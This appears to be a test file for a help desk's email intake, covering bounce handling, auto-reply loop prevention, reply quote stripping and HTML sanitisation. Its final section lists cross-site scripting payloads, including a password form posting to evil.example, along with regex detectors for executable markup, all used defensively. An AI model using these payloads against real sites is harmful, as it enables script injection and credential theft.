import { existsSync, readFileSync } from 'node:fs'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { BOUNCES } from '../../src/channels/email/fixtures/bounces.ts'
import { handleNext } from '../../src/desk/inbox/handle.ts'
import { openMail } from '../../src/main/mail.ts'
import type { MailChannel } from '../../src/channels/channel.ts'
import { fromIso, HOUR } from '../../src/std/time.ts'
import { mailOf, openMailDesk, type Kept, type MailDesk } from '../mail.ts'

const FOLDER = '../shared/corpora'
const linesOf = (file: string) =>
  readFileSync(`${FOLDER}/${file}`, 'utf8')
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line))

let desk: MailDesk
let channel: MailChannel & { close(): Promise<void> }

beforeAll(async () => {
  // Nobody works here but the test: one mail after the other.
  desk = await openMailDesk({ at: fromIso('2026-03-07T20:50:00-05:00'), idle: true })
  channel = openMail(desk.ground.config, (await desk.desk.policies.current()).document)
})
afterAll(async () => {
  await channel.close()
  await desk.close()
})

async function handle(source: string | Buffer): Promise<Kept> {
  expect(await desk.post(source)).toMatchObject({ status: 202, body: { duplicate: false } })
  expect(await handleNext(desk.desk, channel)).toBe(true)
  const kept = (await desk.kept()).at(-1)
  if (!kept) throw new Error('what was posted is kept')
  return kept
}

interface Shown {
  readonly state: string
  readonly ticketId: string | null
  readonly body: string | null
  readonly html: string | null
}

/** Takes many mails, each of another author, and tells what is shown of each. */
async function showAll(
  sources: readonly { from: string; source: string }[],
): Promise<Map<string, Shown>> {
  for (let i = 0; i < sources.length; i += 20) {
    await Promise.all(sources.slice(i, i + 20).map(({ source }) => desk.post(source)))
  }
  const work = async () => {
    while (await handleNext(desk.desk, channel));
  }
  await Promise.all([work(), work(), work()])
  const held = await desk.ground.db<{ id: string }[]>`select id from inbound where state = 'held'`
  for (const { id } of held) await desk.call(desk.admin, `POST /api/mail/held/${id}/release`)
  const rows = await desk.ground.db<(Shown & { fromAddress: string })[]>`
    select inbound.state, inbound.ticket_id, from_address, body, html
    from inbound left join message on inbound_id = inbound.id`
  return new Map(rows.map((row) => [row.fromAddress, row]))
}

async function answersTo(kept: Kept): Promise<number> {
  const rows = await desk.ground.db`select 1 from outbound where ticket_id = ${kept.ticketId}`
  return rows.length
}

/** Makes people of these addresses, all of them reachable. */
async function reachable(addresses: readonly string[]): Promise<void> {
  for (const email of addresses) {
    const [known] = await desk.ground.db`select 1 from identity where value = ${email}`
    if (!known) await desk.person('buyer', { email })
  }
  await desk.ground.db`update identity set suspended_at = null, suspended_reason = null`
}

async function suspended(): Promise<string[]> {
  const rows = await desk.ground.db<{ value: string }[]>`
    select value from identity where suspended_at is not null order by value`
  return rows.map(({ value }) => value)
}

describe('a mail that came back', () => {
  test.each(BOUNCES)('opens nothing and is not answered: $name', async (bounce) => {
    await reachable(bounce.recipients)
    const kept = await handle(bounce.source)
    expect(kept).toMatchObject({ state: 'bounce', ticketId: null })
    expect(await suspended()).toEqual(bounce.failure === 'hard' ? [...bounce.recipients] : [])
  })

  test('keeps no staff from mail on anybody’s word', async () => {
    const agent = await desk.person('agent')
    const source = BOUNCES[0]?.source.replaceAll('gone@buyer.test', agent.email) ?? ''
    expect(await handle(source)).toMatchObject({ state: 'bounce' })
    const [row] = await desk.ground.db`
      select suspended_at from identity where value = ${agent.email}`
    expect(row).toMatchObject({ suspendedAt: null })
  })
})

describe.skipIf(!existsSync(FOLDER))('115 bounces found in the wild', () => {
  test('a hard one suspends exactly its recipients, a soft one nobody', async () => {
    const different: string[] = []
    for (const { id, file, expect: wanted } of linesOf('email-bounces-flufl/expected.jsonl')) {
      if (!wanted) continue
      const recipients: string[] = wanted.failed_recipients
        .map((address: string) => address.toLowerCase())
        .toSorted()
      await reachable(recipients)
      const kept = await handle(readFileSync(`${FOLDER}/email-bounces-flufl/${file}`))
      const isSoft = wanted.kind === 'warning-temporary'
      const found = kept.reasons.map((reason) => reason.replace(/^(hard|soft):/, '')).toSorted()
      const isSame = recipients.length === 0 || same(found, recipients.slice(0, 20))
      if (!isSame || !same(await suspended(), isSoft ? [] : recipients)) different.push(id)
    }
    // A phone book's notice without a host: two are meant, known only on that campus.
    expect(different).toEqual(['yale_01'])
  }, 60_000)
})

const same = (a: readonly string[], b: readonly string[]): boolean =>
  JSON.stringify(a) === JSON.stringify(b)

describe('an automatic answer', () => {
  test.each<[string, Record<string, string>, boolean]>([
    ['goes to a person who writes to us', {}, true],
    ['not to a machine', { 'Auto-Submitted': 'auto-generated' }, false],
    ['not to a list', { 'List-Id': '<x.lists.example>' }, false],
    ['not to where no answer is wanted', { 'X-Auto-Response-Suppress': 'All' }, false],
    ['not to a mail that was sent to others', { To: 'list@elsewhere.example' }, false],
  ])('%s', async (name, headers, isAnswered) => {
    const from = `${name.replace(/\W/g, '')}@buyer.example`
    const kept = await handle(mailOf({ From: from, ...headers }))
    expect(kept.state).toBe('opened')
    expect(await answersTo(kept)).toBe(isAnswered ? 1 : 0)
  })

  test('is one to each subject in an hour, and a few to one sender', async () => {
    const from = { From: 'machine@buyer.example' }
    const answers: number[] = []
    for (const Subject of ['Thanks', 'Re: Thanks', 'AW: RE: thanks', 'A', 'B', 'C', 'D', 'E']) {
      answers.push(await answersTo(await handle(mailOf({ ...from, Subject }))))
    }
    expect(answers).toEqual([1, 0, 0, 1, 1, 1, 1, 0])
    desk.ground.clock.turn(desk.ground.clock.now() + HOUR + 1)
    expect(await answersTo(await handle(mailOf({ ...from, Subject: 'Thanks' })))).toBe(1)
  })
})

interface Case {
  id: string
  headers: Record<string, string | string[]>
  expect: {
    auto_reply_sent_by_us?: boolean
    message_stored?: boolean
    classified?: string
    auto_replies_to_one_sender_per_hour_max?: number
  }
}

describe.skipIf(!existsSync(FOLDER))('what three other desks do with 37 mails', () => {
  const file = `${FOLDER}/email-behaviour/cases.json`
  const cases: Case[] = existsSync(file)
    ? JSON.parse(readFileSync(file, 'utf8')).auto_reply_and_loops
    : []

  test.each(cases)('$id', async ({ id, headers, expect: wanted }) => {
    const { installation, host } = channel.identity
    const named = (text: string) =>
      text
        .replaceAll('OUR-FQDN', host)
        .replaceAll('OUR-NAME', installation)
        .replace(/^me@/, `me.${id}@`)
    const fields = Object.fromEntries(
      Object.entries(headers).map(([name, value]) => [name, [value].flat().map(named)]),
    )
    const kept = await handle(mailOf(fields))
    const answers = kept.ticketId ? await answersTo(kept) : 0
    const { auto_reply_sent_by_us: isAnswered = answers > 0, message_stored: isStored } = wanted
    const kind = wanted.classified === 'normal' ? 'person' : (wanted.classified ?? kept.kind)
    expect({ answers, kind: kept.kind }).toEqual({ answers: isAnswered ? 1 : 0, kind })
    const state = isStored === false ? 'loop' : kept.state
    expect(kept).toMatchObject({ state, ticketId: isStored === false ? null : kept.ticketId })
    const most = wanted.auto_replies_to_one_sender_per_hour_max
    for (let more = 0; most !== undefined && more < 3; more++) {
      expect(await answersTo(await handle(mailOf(fields)))).toBe(0)
    }
  })
})

describe.skipIf(!existsSync(FOLDER))('64 replies in fifteen languages', () => {
  test('at least 50 are shown without what they quote', async () => {
    const replies = linesOf('email-reply-discourse/expected.jsonl')
    const folded = (text: string) => text.replace(/\s+/g, ' ').trim()
    const sources = replies.map(({ file }, i) => {
      const body = readFileSync(`${FOLDER}/email-reply-discourse/${file}`, 'utf8')
      const from = `r${i}@buyer.example`
      const fields = { From: from, 'Content-Type': 'text/plain; charset=utf-8' }
      return { from, source: mailOf(fields, body) }
    })
    const shown = await showAll(sources)
    const isRight = ({ expect: wanted }: { expect: { reply_text: string } }, i: number) => {
      const body = folded(shown.get(sources[i]?.from ?? '')?.body ?? '')
      // A mail that only quotes is shown whole: there is nothing else to show.
      return body !== '' && (body === folded(wanted.reply_text) || wanted.reply_text === '')
    }
    const right = replies.filter(isRight).length
    console.log(`replies cut right: ${right} of ${replies.length}`)
    expect(right).toBeGreaterThanOrEqual(50)
  }, 60_000)
})

const PAYLOADS = `${FOLDER}/security/xss-dompurify.jsonl`
const OWN = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<svg><script>alert(1)</script></svg>',
  '<style>@import "http://evil.example/x.css"</style>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="http://evil.example"><input name=password></form>',
  '<div style="background:url(http://evil.example/x)">x</div>',
]
const TAG = /<([a-z][\w:-]*)((?:"[^"]*"|'[^']*'|[^>"'])*)>/gi
const ATTRIBUTE = /([^\s"'<>/=]+)(?:\s*=\s*("[^"]*"|'[^']*'|[^\s"'=<>`]+))?/g
const TAGS = /^(script|iframe|object|embed|svg|math|style|link|meta|base|form|input|template)$/i
const VALUES = /^["']?\s*(javascript|vbscript|data):|url\s*\(|expression\s*\(/i

/** Whether a browser could run or fetch something of this HTML, which the sanitizer wrote. */
function isExecutable(html: string): boolean {
  return [...html.matchAll(TAG)].some(([, name = '', attributes = '']) => {
    const given = [...attributes.matchAll(ATTRIBUTE)]
    const isBad = given.some(
      ([, key = '', value = '']) =>
        /^on|^(srcdoc|formaction|xlink:href)$/i.test(key) ||
        (/^(href|src|action|style)$/i.test(key) && VALUES.test(value)),
    )
    return TAGS.test(name) || isBad
  })
}

describe('HTML that means ill', () => {
  const theirs: { payload: string }[] = existsSync(PAYLOADS)
    ? linesOf('security/xss-dompurify.jsonl')
    : []
  const payloads = [...OWN, ...theirs.map(({ payload }) => payload)]

  test(`of ${payloads.length} payloads mailed in, nothing executable is served`, async () => {
    const sources = payloads.map((payload, i) => {
      const from = `x${i}@buyer.example`
      const fields = { From: from, 'Content-Type': 'text/html; charset=utf-8' }
      return { from, source: mailOf(fields, `<p>Hello</p>${payload}<p>Bye</p>`) }
    })
    const shown = await showAll(sources)
    const broken: string[] = []
    for (const [i, payload] of payloads.entries()) {
      const one = shown.get(sources[i]?.from ?? '')
      expect(one).toMatchObject({ state: 'opened' })
      if (isExecutable(one?.html ?? '')) broken.push(`${payload}\n  → ${one?.html}`)
    }
    const { conversation } = await desk.ticket(shown.get('x0@buyer.example')?.ticketId ?? null)
    expect(conversation.items[0].html).toBe(shown.get('x0@buyer.example')?.html)
    expect(broken).toEqual([])
  }, 90_000)
})
